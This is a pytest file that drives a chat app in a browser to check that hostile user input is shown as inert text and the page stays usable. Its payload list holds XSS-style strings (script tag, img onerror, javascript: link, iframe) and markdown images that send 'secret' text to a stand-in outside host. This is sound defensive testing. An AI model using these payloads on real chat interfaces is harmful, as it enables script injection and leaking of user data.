"""Hostile and odd content, sent by the user and echoed back by the model, in a real browser.

The guard on every test fails it if the page asks for any address other than
127.0.0.1, opens a dialog, or logs a script error; these tests add that the page
stays usable: the chat box and the sidebar stay in reach and a prompt still works.
"""

from __future__ import annotations

import pytest
from chat_page import ChatPage

OUTSIDE = "http://outside.example"
PAYLOADS = {
    "script": "<script>alert('script')</script>",
    "img-onerror": "<img src=x onerror=\"alert('img')\">",
    "iframe": f'<iframe src="{OUTSIDE}/frame"></iframe>',
    "javascript-link": "[press me](javascript:alert('link'))",
    "markdown-image": f"![leak]({OUTSIDE}/leak.png?text=secret)",
    "reference-image": f"![leak][pic]\n\n[pic]: {OUTSIDE}/ref.png",
    "autolink-image-in-code": f"`![not an image]({OUTSIDE}/code.png)` and ![x]({OUTSIDE}/after-code.png)",
    "latex-flood": "$$\\rule{10px}{50000px}$$ and $\\rule{10px}{40000px}$",
    "latex-huge": "$$" + "\\Huge X \\\\ " * 400 + "$$",
    # Zero-width joiners and spaces, a right-to-left override, Hebrew and Arabic.
    "zero-width-and-rtl": "a\u200b\u200c\u200d\u2060b \u202eevil\u202c \u05e9\u05dc\u05d5\u05dd \u0645\u0631",
}


def assert_usable(chat: ChatPage) -> None:
    """The chat box and the sidebar's controls are on screen, and a prompt still gets its reply."""
    viewport = chat.page.viewport_size
    box = chat.input.bounding_box()
    assert box is not None and 0 <= box["y"] <= viewport["height"] - box["height"], box
    clear = chat.button("Clear chat").bounding_box()
    assert clear is not None and clear["y"] <= viewport["height"] * 4, clear
    before = len(chat.messages())
    chat.exchange("still working?")
    assert len(chat.messages()) == before + 2
    assert 'You said: "still working?"' in chat.messages()[-1][1]


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_hostile_content_is_shown_inert(chat: ChatPage, payload: str) -> None:
    chat.exchange(payload)
    assert chat.messages()[0][0] == "user"
    # Markup is shown as text, not run: the script and tags read as typed.
    if payload.startswith("<"):
        assert payload.split(">")[0].strip("<").split()[0] in chat.messages()[0][1]
    content = chat.page.get_by_test_id("stChatMessageContent")
    assert content.locator("img, iframe, script").count() == 0
    chat.page.wait_for_timeout(300)  # time for any fetch an image would make
    for link in content.locator("a").all():
        assert not (link.get_attribute("href") or "").lower().startswith("javascript:")
    assert_usable(chat)


def test_latex_cannot_bury_the_page(chat: ChatPage) -> None:
    chat.exchange(PAYLOADS["latex-flood"])
    for formula in chat.page.locator("[data-testid=stChatMessageContent] .katex").all():
        box = formula.bounding_box()
        assert box is None or box["height"] <= chat.page.viewport_size["height"], box
    assert_usable(chat)


def set_context_budget(chat: ChatPage, tokens: int) -> None:
    budget = chat.settings().get_by_role("spinbutton", name="Context budget (tokens)")
    budget.fill(str(tokens))
    chat.settle(lambda: budget.press("Enter"))


def test_a_megabyte_message_is_held_over_the_budget_then_kept_whole_but_drawn_in_part(chat: ChatPage) -> None:
    set_context_budget(chat, 50_000)
    chat.send("x" * 1_000_000)
    assert chat.messages() == [], "over the budget: not sent"
    held = chat.page.get_by_test_id("stAlert").filter(has_text="more than the context budget of 50,000")
    assert held.count() == 1
    set_context_budget(chat, 1_000_000)
    chat.click("Send again")
    chat.let_reply_join()
    shown = chat.messages()[0][1]
    assert "Showing the first 20,000 of 1,000,000 characters" in shown
    assert len(shown) < 25_000
    assert_usable(chat)


def test_ten_thousand_lines(chat: ChatPage) -> None:
    set_context_budget(chat, 1_000_000)  # whatever the provider's default, this one fits
    chat.exchange("\n".join(f"line {n}" for n in range(10_000)))
    assert "line 2000" in chat.messages()[0][1]
    assert_usable(chat)
